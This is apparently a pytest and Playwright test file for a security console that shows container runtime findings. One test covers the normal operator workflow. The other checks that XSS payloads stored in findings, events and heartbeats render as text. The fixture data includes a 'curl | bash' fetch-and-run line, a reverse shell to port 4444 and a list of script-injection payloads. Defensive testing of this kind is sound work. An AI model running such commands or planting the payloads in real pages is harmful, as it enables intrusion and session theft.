"""The console in a real browser: Debian's chromium, headless, driven by Playwright, against a running backend.

One walk through what an operator does (sign in, list, filter, sort, live refresh, open a finding, archive, make a
suppression rule, copy as JSON, coverage, summary, sign out), and the escaping test: findings, events and
heartbeats whose every string carries script and HTML payloads, opened on every page with the browser's CSP
switched off, so that only the page's own escaping stands between the payload and execution.

Screenshots of each page go to tests/screenshots/ for review.
"""

from __future__ import annotations

import json
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest
from backend_env import BackendThread, iso, sample_finding
from playwright.sync_api import Browser, Page, expect, sync_playwright
from sqlalchemy import select

from backend import tenancy
from backend.console.operators import create_operator
from backend.models import FilterRow, FindingRow, RuntimeEventRow

CHROMIUM = Path("/usr/bin/chromium")
SCREENSHOTS = Path(__file__).resolve().parent / "screenshots"
ACCOUNT, REGION = "111111111111", "us-east-1"
DETECTOR = tenancy.detector_id_for(ACCOUNT, REGION)
PASSWORD = "correct horse battery staple"
TIMEOUT_MS = 10_000


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    if not CHROMIUM.exists():
        pytest.fail(f"{CHROMIUM} is missing: the console is tested in Debian's chromium (apt-get install chromium)")
    expect.set_options(timeout=TIMEOUT_MS)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), headless=True)
        try:
            yield browser
        finally:
            browser.close()


def shot(page: Page, name: str) -> None:
    SCREENSHOTS.mkdir(exist_ok=True)
    page.screenshot(path=str(SCREENSHOTS / f"{name}.png"), full_page=True)


def sign_in(page: Page, url: str, username: str = "alice") -> None:
    page.goto(f"{url}/console")
    expect(page).to_have_url(f"{url}/console/login")
    page.fill("input[name=username]", username)
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    expect(page).to_have_url(f"{url}/console/")


def add_operator(b: BackendThread, username: str = "alice") -> None:
    b.in_session(lambda s: create_operator(s, username, PASSWORD, ["*"]))


def insert_events(b: BackendThread, rows: list[RuntimeEventRow]) -> None:
    async def add(s: Any) -> None:
        s.add_all(rows)

    b.in_session(add)


def event(task_arn: str, t_ms: int, kind: str, process: dict[str, Any], **data: Any) -> RuntimeEventRow:
    doc = {"kind": kind, "time": iso(t_ms / 1000), "process": process, **data}
    return RuntimeEventRow(
        detector_id=DETECTOR,
        id=uuid.uuid4().hex,
        task_arn=task_arn,
        time=t_ms,
        kind=kind,
        container_name=process.get("containerName"),
        process_name=process.get("name"),
        executable_path=process.get("executablePath"),
        received_at=t_ms,
        document=orjson.dumps(doc).decode(),
    )


def heartbeat(cluster: str, task: str, **overrides: Any) -> dict[str, Any]:
    hb: dict[str, Any] = {
        "agentId": f"agent-{task}",
        "agentVersion": "0.1.0",
        "sentAt": iso(time.time()),
        "intervalS": 60,
        "task": {
            "accountId": ACCOUNT,
            "region": REGION,
            "clusterName": cluster,
            "taskArn": f"arn:aws:ecs:{REGION}:{ACCOUNT}:task/{cluster}/{task}",
            "taskDefinitionArn": f"arn:aws:ecs:{REGION}:{ACCOUNT}:task-definition/web:3",
            "family": "web",
            "launchType": "FARGATE",
        },
        "sources": {
            "proc_poll": {"enabled": True},
            "sock_diag": {"enabled": True},
            "packet_dns": {"enabled": True},
            "inotify": {"enabled": True},
        },
    }
    hb.update(overrides)
    return hb


def row_of(b: BackendThread, fid: str) -> Any:
    return b.in_session(lambda s: s.get(FindingRow, (DETECTOR, fid)))


def test_an_operator_works_through_the_console(sqlite_backend: BackendThread, chromium: Browser) -> None:
    b = sqlite_backend
    add_operator(b)
    prod, staging = b.token(cluster="prod"), b.token(cluster="staging")
    now = time.time()
    shell = sample_finding(
        severity=8.0,
        created=now - 600,
        updated=now - 300,
        count=4,
        exe="/bin/bash",
        command_line="bash -i",
        remote_ip="198.51.100.9",
        title="Reverse shell: bash connected its terminal to 198.51.100.9:4444",
    )
    process = shell["service"]["runtimeDetails"]["process"]
    process.update(uuid="p-bash", user="www-data", userId=33, startTime=iso(now - 601))
    process["lineage"] = [
        {"name": "sh", "executablePath": "/bin/sh", "pid": 4200, "commandLine": "sh -c curl -s http://x | bash",
         "user": "www-data", "userId": 33, "startTime": iso(now - 602), "uuid": "p-sh"},
        {"name": "node", "executablePath": "/usr/local/bin/node", "pid": 4000, "commandLine": "node server.js",
         "user": "www-data", "userId": 33, "startTime": iso(now - 7200), "uuid": "p-node"},
        {"name": "tini", "executablePath": "/sbin/tini", "pid": 3990, "commandLine": "/sbin/tini -- node server.js",
         "user": "root", "userId": 0, "startTime": iso(now - 7201)},
    ]  # fmt: skip
    shell["service"]["runtimeDetails"]["context"] = {"addressFamily": "AF_INET", "ianaProtocolNumber": 6}
    shell["service"]["evidence"] = {
        "threatIntelligenceDetails": [{"threatListName": "feodo-tracker", "threatNames": ["botnet-c2"]}]
    }
    miner = sample_finding(
        type="CryptoCurrency:Runtime/BitcoinTool.B",
        severity=9.0,
        created=now - 3 * 86400,
        updated=now - 3600,
        family="worker",
        container="worker",
        image="acme/worker:2.1",
        exe="/tmp/xmrig",
        command_line="/tmp/xmrig -o pool.example.org:3333",
        domain="pool.example.org",
        title="Crypto miner xmrig queried pool.example.org",
    )
    new_bin = sample_finding(
        type="Execution:Runtime/NewBinaryExecuted",
        severity=5.0,
        created=now - 2 * 86400,
        image="acme/builder:7",
        exe="/tmp/build/out",
        title="A binary created in the container was executed",
    )
    recon = sample_finding(
        type="Discovery:Runtime/SuspiciousCommand", severity=2.0, created=now - 86400, exe="/usr/bin/id"
    )
    other = sample_finding(cluster="staging", severity=7.0, created=now - 1800, task="feedfacecafe")
    assert b.send(prod, [shell, miner, new_bin, recon])[0] == 200
    assert b.send(staging, [other])[0] == 200
    task_arn = shell["resource"]["ecsClusterDetails"]["taskDetails"]["arn"]
    t = int((now - 600) * 1000)
    proc = {"containerName": "app", "user": "www-data"}
    insert_events(b, [
        event(task_arn, t - 5000, "process.exec", {**proc, "pid": 4200, "name": "sh", "executablePath": "/bin/sh",
                                                   "commandLine": "sh -c curl -s http://x | bash", "uuid": "p-sh"}),
        event(task_arn, t - 4000, "dns.query", {**proc, "pid": 4201, "name": "curl", "executablePath": "/usr/bin/curl",
                                                "commandLine": "curl -s http://x"}, domain="x.example"),
        event(task_arn, t - 1000, "process.exec", {**proc, "pid": 4242, "name": "bash", "executablePath": "/bin/bash",
                                                   "commandLine": "bash -i", "uuid": "p-bash"}),
        event(task_arn, t + 200, "net.connect", {**proc, "pid": 4242, "name": "bash", "executablePath": "/bin/bash",
                                                 "commandLine": "bash -i", "uuid": "p-bash"},
              remoteAddress="198.51.100.9", remotePort=4444),
    ])  # fmt: skip
    for task_id in ("0123456789abcdef", "1111aaaa2222bbbb", "3333cccc4444dddd"):
        assert b.post("/agent/v1/heartbeat", heartbeat("prod", task_id), prod)[0] == 200
    blind = heartbeat("prod", "5555eeee6666ffff", agentVersion="0.0.9")
    blind["sources"] = {"proc_poll": {"enabled": False, "detail": "no SYS_PTRACE: other containers' /proc is closed"}}
    assert b.post("/agent/v1/heartbeat", blind, prod)[0] == 200
    assert b.post("/agent/v1/heartbeat", heartbeat("staging", "feedfacecafe"), staging)[0] == 200

    context = chromium.new_context(viewport={"width": 1440, "height": 1000})
    context.set_default_timeout(TIMEOUT_MS)
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=b.url)
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.on("console", lambda msg: errors.append(msg.text) if msg.type == "error" else None)
    try:
        # sign in
        page.goto(f"{b.url}/console")
        expect(page.locator("input[name=username]")).to_be_visible()
        shot(page, "login")
        sign_in(page, b.url)
        table = page.locator("#findings-table tbody tr")
        expect(table).to_have_count(5)
        expect(page.locator("#who")).to_contain_text("alice")
        shot(page, "findings")

        # filter: the API's criteria, from the page's controls
        page.select_option("select[name=severityGte]", label="High")
        expect(table).to_have_count(3)
        page.select_option("select[name=cluster]", "staging")
        expect(table).to_have_count(1)
        expect(table.first).to_have_attribute("data-finding-id", other["id"])
        assert "cluster=staging" in page.url and "severityGte=7" in page.url
        page.click("#reset-filters")
        expect(table).to_have_count(5)
        page.select_option("select[name=type]", "Execution:Runtime/NewBinaryExecuted")
        expect(table).to_have_count(1)
        page.click("#reset-filters")
        page.select_option("select[name=range]", "24h")
        expect(table).to_have_count(3)  # updated within a day: shell, miner, staging's
        page.click("#reset-filters")

        # sort by severity, lowest first, then highest first
        page.click("button[data-sort=severity]")
        expect(table.first).to_have_attribute("data-finding-id", miner["id"])
        page.click("button[data-sort=severity]")
        expect(table.first).to_have_attribute("data-finding-id", recon["id"])
        page.click("button[data-sort=severity]")
        expect(table.first).to_have_attribute("data-finding-id", miner["id"])
        page.click("#reset-filters")

        # archive from the list, find it among the archived ones, unarchive it
        page.check(f"tr[data-finding-id='{recon['id']}'] input.pick")
        page.click("#archive-selected")
        expect(page.locator("#toast")).to_contain_text("1 finding archived")
        expect(table).to_have_count(4)
        assert row_of(b, recon["id"]).archived
        page.select_option("select[name=archived]", "true")
        expect(table).to_have_count(1)
        page.check(f"tr[data-finding-id='{recon['id']}'] input.pick")
        page.click("#unarchive-selected")
        expect(page.locator("#findings-table td.empty")).to_be_visible()
        assert not row_of(b, recon["id"]).archived

        page.goto(f"{b.url}/console/#/findings")
        expect(table).to_have_count(5)

        # live: a finding that arrives shows up without reloading the page
        page.evaluate("window.__sameDocument = true")
        fresh = sample_finding(
            type="PrivilegeEscalation:Runtime/DockerSocketAccessed",
            severity=7.5,
            created=time.time(),
            title="A process opened the Docker socket",
        )
        assert b.send(prod, [fresh])[0] == 200
        expect(page.locator(f"tr[data-finding-id='{fresh['id']}']")).to_be_visible(timeout=12_000)
        expect(page.locator(f"tr[data-finding-id='{fresh['id']}']")).to_have_class("fresh")
        assert page.evaluate("window.__sameDocument") is True
        expect(table).to_have_count(6)

        # the detail: the sentence, the lineage tree, the timeline
        page.click(f"tr[data-finding-id='{shell['id']}'] a.title")
        expect(page.locator("#finding-title")).to_have_text(shell["title"])
        expect(page.locator("#finding-sentence")).to_contain_text("bash (user www-data) in container app of task")
        tree = page.locator("#lineage-tree")
        expect(tree.locator(".proc")).to_have_count(4)
        expect(tree.locator("li.ancestor").first.locator(".proc-name").first).to_have_text("tini")
        expect(tree.locator("li.self .proc-cmd")).to_have_text("bash -i")
        expect(tree.locator("ul ul ul li.self")).to_have_count(1)  # three ancestors deep
        expect(page.locator("#intel")).to_contain_text("feodo-tracker")
        expect(page.locator("#context")).to_contain_text("AF_INET")
        expect(page.locator("#action")).to_contain_text("198.51.100.9")
        timeline = page.locator("#timeline tbody tr:not(.event-json)")
        expect(timeline).to_have_count(4 + 2)  # the events and the finding's first and last sightings
        expect(page.locator("#timeline tr.related")).to_have_count(3)
        page.locator("#timeline button.event-toggle").nth(3).click()
        expect(page.locator("#timeline tr.event-json").nth(3)).to_contain_text('"remoteAddress": "198.51.100.9"')
        shot(page, "finding-detail")

        # copy as JSON
        page.click("#copy-json")
        copied = json.loads(page.evaluate("navigator.clipboard.readText()"))
        assert copied["id"] == shell["id"] and copied["service"]["count"] == 4

        # archive and unarchive
        page.click("#archive-toggle")
        expect(page.locator("#archived-tag")).to_contain_text("archived by user:alice")
        assert row_of(b, shell["id"]).archived
        page.click("#archive-toggle")
        expect(page.locator("#archived-tag")).to_have_count(0)
        assert not row_of(b, shell["id"]).archived

        # a suppression rule from the finding: prefilled with its type and image
        page.goto(f"{b.url}/console/#/finding/{DETECTOR}/{new_bin['id']}")
        expect(page.locator("#finding-title")).to_have_text(new_bin["title"])
        page.click("#suppress")
        form = page.locator("#suppression-form")
        expect(form.locator("input[value=type]")).to_be_checked()
        image_box = form.locator("input[value='resource.ecsClusterDetails.taskDetails.containers.image']")
        expect(image_box).to_be_checked()
        form.locator("input[name=name]").fill("builder-new-binaries")
        shot(page, "suppression-rule")
        form.locator("button[type=submit]").click()
        expect(page.locator("#toast")).to_contain_text("builder-new-binaries created; 1 current finding archived")
        expect(page.locator("#archived-tag")).to_contain_text("filter:builder-new-binaries")
        rules = b.in_session(lambda s: _all(s, FilterRow))
        assert [(r.name, r.action) for r in rules] == [("builder-new-binaries", "ARCHIVE")]
        assert json.loads(rules[0].criteria)["criterion"] == {
            "type": {"eq": ["Execution:Runtime/NewBinaryExecuted"]},
            "resource.ecsClusterDetails.taskDetails.containers.image": {"eq": ["acme/builder:7"]},
        }

        # coverage
        page.click("nav.main a[data-nav=coverage]")
        prod_card = page.locator("section.cluster[data-cluster=prod]")
        expect(prod_card.locator(".percent")).to_have_text("75%")
        expect(prod_card).to_contain_text("3 of 4 running tasks healthy")
        unhealthy = prod_card.locator("tr.unhealthy")
        expect(unhealthy).to_have_count(1)
        expect(unhealthy).to_contain_text("Agent runs without a process source")
        expect(unhealthy).to_contain_text("What to do:")
        expect(prod_card).to_contain_text("0.0.9 (1 task)")
        expect(prod_card.locator("tbody tr").nth(1).locator(".chip")).to_have_count(4)
        expect(page.locator("#coverage-overall")).to_contain_text("80% of 5 running tasks")
        expect(page.locator("#exporters")).to_contain_text("No exporter is configured")
        shot(page, "coverage")

        # summary
        page.click("nav.main a[data-nav=summary]")
        chart = page.locator("#severity-chart")
        expect(chart).to_be_visible()
        expect(chart.locator("rect.band")).not_to_have_count(0)
        high = sum(int(c) for c in chart.locator("rect.band-high").evaluate_all("rs => rs.map(r => r.dataset.count)"))
        assert high == 3  # shell (unarchived again), staging's and the docker-socket one
        expect(page.locator("#types-table tbody tr")).to_have_count(4)  # the suppressed type is archived
        expect(page.locator("#top-clusters")).to_contain_text("prod")
        shot(page, "summary")

        # sign out: the session is gone, the page goes back to the sign-in form
        page.click("#signout")
        expect(page).to_have_url(f"{b.url}/console/login")
        page.goto(f"{b.url}/console/")
        expect(page).to_have_url(f"{b.url}/console/login")
    finally:
        context.close()
    assert errors == []


# -- escaping --------------------------------------------------------------------------------------------------

# Each calls the exposed pwned() and sets a global if it ever runs, from any place it can land.
PAYLOADS = [
    "<script>pwned('script');window.__pwned=1</script>",
    "<img src=x onerror=\"pwned('img');window.__pwned=1\">",
    '"><svg onload="pwned(\'svg\');window.__pwned=1">',
    "</script><script>pwned('close');window.__pwned=1</script>",
    "'><img src=x onerror=pwned('quote')>",
]


def xss_finding(i: int, now: float) -> dict[str, Any]:
    p = PAYLOADS[i % len(PAYLOADS)]
    f = sample_finding(
        type=f"Execution:Runtime/{p}",
        severity=[2.0, 5.0, 8.0, 9.5, 7.0][i % 5],
        created=now - 3600 * (i + 1),
        family=f"fam{p}",
        container=f"c{p}",
        image=f"img{p}",
        exe=f"/tmp/{p}",
        command_line=f"sh -c {p}",
        title=f"title {p}",
        domain=f"d{i}.example",
    )
    f["description"] = f"description {p}"
    process = f["service"]["runtimeDetails"]["process"]
    process.update(name=f"name{p}", user=f"user{p}", pwd=f"/{p}", uuid="px")
    process["lineage"] = [
        {"name": p, "executablePath": f"/bin/{p}", "commandLine": f"parent {p}", "user": p, "startTime": p, "pid": 9}
    ]
    f["service"]["runtimeDetails"]["context"] = {"scriptPath": p, p: p, "nested": {"k": [p, {"x": p}]}}
    f["service"]["evidence"] = {"threatIntelligenceDetails": [{"threatListName": p, "threatNames": [p]}]}
    f["service"]["additionalInfo"]["value"] = json.dumps({"agentDetails": {"agentId": p, "agentVersion": p}})
    f["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["imagePrefix"] = p
    f["resource"]["ecsClusterDetails"]["taskDetails"]["group"] = p
    return f


def test_attacker_strings_are_shown_as_text_and_never_run(sqlite_backend: BackendThread, chromium: Browser) -> None:
    b = sqlite_backend
    add_operator(b)
    prod = b.token(cluster="prod")
    now = time.time()
    findings = [xss_finding(i, now) for i in range(len(PAYLOADS))]
    assert b.send(prod, findings)[0] == 200
    target = findings[1]
    task_arn = target["resource"]["ecsClusterDetails"]["taskDetails"]["arn"]
    t = int((now - 7200) * 1000)
    insert_events(b, [
        event(task_arn, t + i, p, {"containerName": p, "pid": 9, "name": p, "executablePath": p, "commandLine": p,
                                   "user": p, "uuid": "px"}, extra=p)
        for i, p in enumerate(PAYLOADS)
    ])  # fmt: skip
    bad = heartbeat("prod", "abcdef", agentVersion=PAYLOADS[4][:32])
    bad["task"]["family"] = PAYLOADS[2]
    bad["sources"] = {"proc_poll": {"enabled": False, "detail": PAYLOADS[1]}, PAYLOADS[0]: {"enabled": True}}
    bad["delivery"] = {"permanentError": PAYLOADS[3]}
    assert b.post("/agent/v1/heartbeat", bad, prod)[0] == 200

    fired: list[Any] = []
    # The CSP would block inline handlers even if the page parsed a payload as HTML: switched off here, so that
    # this test fails on any escaping mistake, not only on a missing CSP (the HTTP tests check the header).
    context = chromium.new_context(bypass_csp=True, viewport={"width": 1440, "height": 1000})
    context.set_default_timeout(TIMEOUT_MS)

    def pwned(where: Any) -> None:
        fired.append(where)

    context.expose_function("pwned", pwned)
    page = context.new_page()

    def on_dialog(dialog: Any) -> None:  # alert() and friends: a payload ran
        fired.append(f"dialog {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)

    def nothing_ran(where: str) -> None:
        page.wait_for_timeout(150)  # let an onerror of a failed image load fire, if there were one
        injected = page.evaluate(
            "document.querySelectorAll('script:not([src]), img, [onerror], [onload], iframe, object').length"
        )
        assert injected == 0, where
        assert page.evaluate("window.__pwned") is None, where
        assert fired == [], where

    try:
        # the sign-in page echoes the username back
        page.goto(f"{b.url}/console/login")
        page.fill("input[name=username]", PAYLOADS[2])
        page.fill("input[name=password]", "wrong password!!")
        page.click("button[type=submit]")
        expect(page.locator("input[name=username]")).to_have_value(PAYLOADS[2])
        nothing_ran("login")

        sign_in(page, b.url)
        expect(page.locator("#findings-table tbody tr")).to_have_count(len(findings))
        nothing_ran("findings")
        body = page.locator("body").inner_text()
        for p in PAYLOADS:
            assert f"title {p}" in body and f"/tmp/{p}" in body and f"c{p}" in body and f"img{p}" in body
        options = page.locator("select[name=type] option").all_text_contents()
        assert f"Execution:Runtime/{PAYLOADS[0]}" in options
        page.select_option("select[name=type]", f"Execution:Runtime/{PAYLOADS[3]}")
        expect(page.locator("#findings-table tbody tr")).to_have_count(1)
        nothing_ran("findings")
        shot(page, "xss-findings")

        page.goto(f"{b.url}/console/#/finding/{DETECTOR}/{target['id']}")
        p = PAYLOADS[1]
        expect(page.locator("#view")).to_have_attribute("data-view", "finding")
        expect(page.locator("#finding-title")).to_have_text(f"title {p}")
        expect(page.locator("#lineage-tree")).to_contain_text(f"parent {p}")
        expect(page.locator("#lineage-tree .proc-cmd").last).to_have_text(f"sh -c {p}")
        expect(page.locator("#context")).to_contain_text(p)
        expect(page.locator("#intel")).to_contain_text(p)
        expect(page.locator("#timeline tbody tr:not(.event-json)")).to_have_count(len(PAYLOADS) + 1)
        page.locator("#timeline button.event-toggle").first.click()
        expect(page.locator("#timeline tr.event-json").first).to_be_visible()
        page.click("#suppress")
        expect(page.locator("#suppression-form")).to_contain_text(f"img{p}")
        page.locator("#raw-json").click()
        detail_text = page.locator("body").inner_text()
        for q in PAYLOADS:
            assert q in detail_text
        nothing_ran("detail")
        shot(page, "xss-detail")

        page.click("nav.main a[data-nav=summary]")
        expect(page.locator("#types-table tbody tr")).to_have_count(len(PAYLOADS))
        assert f"img{PAYLOADS[0]}" in page.locator("#top-images").inner_text()
        nothing_ran("summary")

        page.click("nav.main a[data-nav=coverage]")
        expect(page.locator("tr.unhealthy")).to_contain_text(PAYLOADS[3])
        expect(page.locator("tr.unhealthy")).to_contain_text(PAYLOADS[1])
        expect(page.locator("tr.unhealthy")).to_contain_text(PAYLOADS[2])
        nothing_ran("coverage")
        shot(page, "xss-coverage")
    finally:
        context.close()
    assert fired == []


async def _all(session: Any, model: Any) -> list[Any]:
    return list((await session.execute(select(model))).scalars())
